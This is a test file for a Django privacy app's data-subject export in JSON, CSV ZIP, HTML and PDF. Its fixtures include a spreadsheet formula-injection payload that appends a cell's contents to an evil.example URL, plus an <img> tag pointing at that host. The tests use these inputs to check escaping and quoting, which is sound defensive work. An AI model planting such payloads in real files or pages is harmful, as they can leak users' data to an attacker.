"""The right of access export as JSON, a ZIP of CSV files and a PDF."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import jsonschema_rs
import pytest
from django.utils import timezone

from clientvault.privacy import export_formats as formats
from clientvault.privacy import vault
from clientvault.privacy.actors import SYSTEM
from clientvault.privacy.models import Subject
from clientvault.privacy.profile import current_profile
from clientvault.privacy.services.access import record_access
from clientvault.privacy.services.disclosures import disclose
from clientvault.privacy.services.export import export_subject
from tests.accounts.personas import OWNER_DETAILS, make_staff, open_test_account
from tests.kernelapp.models import Contact, Visit

pytestmark = pytest.mark.django_db(databases=["default", "keys"])

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.fixture
def export():
    person = open_test_account(username="zoe", details={**OWNER_DETAILS, "given_name": "Zoë"})
    Contact.objects.create(
        subject=person.subject,
        name=FORMULA,
        email="zoe@example.com",
        card_number="4111111111111111",
    )
    Visit.objects.create(subject=person.subject, ip_address="192.0.2.1", at=timezone.now())
    return export_subject(subject_id=person.subject_id, actor=SYSTEM)


def members(archive: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_it_gives_the_same_utf8_json_with_sorted_keys_every_time(export):
    data = formats.as_json(export)
    assert data == formats.as_json(export)
    assert "Zoë".encode() in data
    loaded = json.loads(data)
    assert list(loaded) == sorted(loaded)
    assert loaded == json.loads(json.dumps(export))


def test_it_zips_a_csv_per_model_with_the_json_and_a_readme(export):
    archive = formats.as_zip(export)
    files = members(archive)
    names = list(files)
    assert names[:2] == ["README.txt", "export.json"]
    assert json.loads(files["export.json"]) == json.loads(formats.as_json(export))
    for records in export["records"]:
        header = read_csv(files[f"records/{records['model']}.csv"])[0]
        assert header == ["id", *(f["name"] for f in records["fields"] if f["name"] != "id")]
    assert {"consents.csv", "disclosures.csv", "accesses.csv"} <= set(names)
    assert b"[held, not shown]" in files["README.txt"]
    assert formats.as_zip(export) == archive


def test_it_gives_each_row_its_values_and_marks(export):
    files = members(formats.as_zip(export))
    header, row = read_csv(files["records/accounts.User.csv"])
    assert dict(zip(header, row, strict=True))["password"] == "[held, not shown]"
    header, row = read_csv(files["records/kernelapp.Contact.csv"])
    values = dict(zip(header, row, strict=True))
    assert values["card_number"] == "4111111111111111"
    assert values["email"] == "zoe@example.com"


def test_it_quotes_cells_a_spreadsheet_would_run_as_a_formula(export):
    files = members(formats.as_zip(export))
    header, row = read_csv(files["records/kernelapp.Contact.csv"])
    assert dict(zip(header, row, strict=True))["name"] == "'" + FORMULA
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx"):
        assert formats.safe_cell(text) == "'" + text
    assert formats.safe_cell("Zoë") == "Zoë"


def test_it_marks_an_erased_subjects_values_in_the_csv():
    subject = Subject.objects.create()
    vault.create_subject_key(subject.id)
    Contact.objects.create(subject=subject, name="Gone", email="gone@example.com")
    vault.destroy_subject_key(subject.id)
    vault.reset_caches()
    export = export_subject(subject_id=subject.id, actor=SYSTEM)
    header, row = read_csv(members(formats.as_zip(export))["records/kernelapp.Contact.csv"])
    assert dict(zip(header, row, strict=True))["name"] == "[erased]"


def test_it_renders_a_readable_page_naming_the_operator(export):
    html = formats.as_html(export)
    assert current_profile().operator_name in html
    assert "Zoë" in html
    for heading in ("Who we are", "What we hold", "Your consents", "Who received your data"):
        assert heading in html
    assert "Who viewed your data" in html
    assert "Password" in html  # the credentials' category is named, their values are not


def test_it_escapes_the_values_it_prints():
    subject = Subject.objects.create()
    vault.create_subject_key(subject.id)
    Contact.objects.create(subject=subject, name='<img src="https://evil.example/x.png">')
    html = formats.as_html(export_subject(subject_id=subject.id, actor=SYSTEM))
    assert "<img" not in html
    assert "&lt;img" in html


def test_it_makes_a_pdf_and_fetches_nothing(export, monkeypatch):
    asked: list[str] = []
    refuse = formats._NoFetching.fetch

    def spy(self, url, headers=None):
        asked.append(url)
        return refuse(self, url, headers)

    monkeypatch.setattr(formats._NoFetching, "fetch", spy)
    pdf = formats.as_pdf(export)
    assert pdf.startswith(b"%PDF")
    assert asked == []
    with pytest.raises(ValueError, match="fetches nothing"):
        formats._NoFetching().fetch("https://example.com/style.css")


SCHEMA = Path(__file__).resolve().parents[2] / "docs" / "export-schema.json"


@pytest.fixture
def validator():
    schema = json.loads(SCHEMA.read_text())
    return jsonschema_rs.Draft202012Validator(schema, validate_formats=True)


def test_a_real_export_matches_the_published_schema(export, validator):
    subject = Subject.objects.get(reference=export["subject"]["reference"])
    disclose(
        subject=subject,
        recipient_kind="registrar",
        recipient="Example Registrar Inc",
        categories=["user.name"],
        ground="contract",
        reference="",
        actor=SYSTEM,
    )
    clerk = make_staff("support")
    record_access(actor=clerk, subject_id=subject.id, purpose="support", what="profile")
    full = export_subject(subject_id=subject.id, actor=SYSTEM)
    assert full["disclosures"]
    assert full["accesses"]
    errors = [error.message for error in validator.iter_errors(json.loads(formats.as_json(full)))]
    assert errors == []


def test_the_schema_refuses_another_version_or_a_missing_section(export, validator):
    loaded = json.loads(formats.as_json(export))
    assert validator.is_valid(loaded)
    assert not validator.is_valid({**loaded, "schema_version": "2"})
    assert not validator.is_valid({k: v for k, v in loaded.items() if k != "accesses"})
    cell = {"state": "erased", "value": "leaked"}
    row = {"id": "1", "cells": {"name": cell}}
    broken = {**loaded, "records": [{**loaded["records"][0], "rows": [row]}]}
    assert not validator.is_valid(broken)
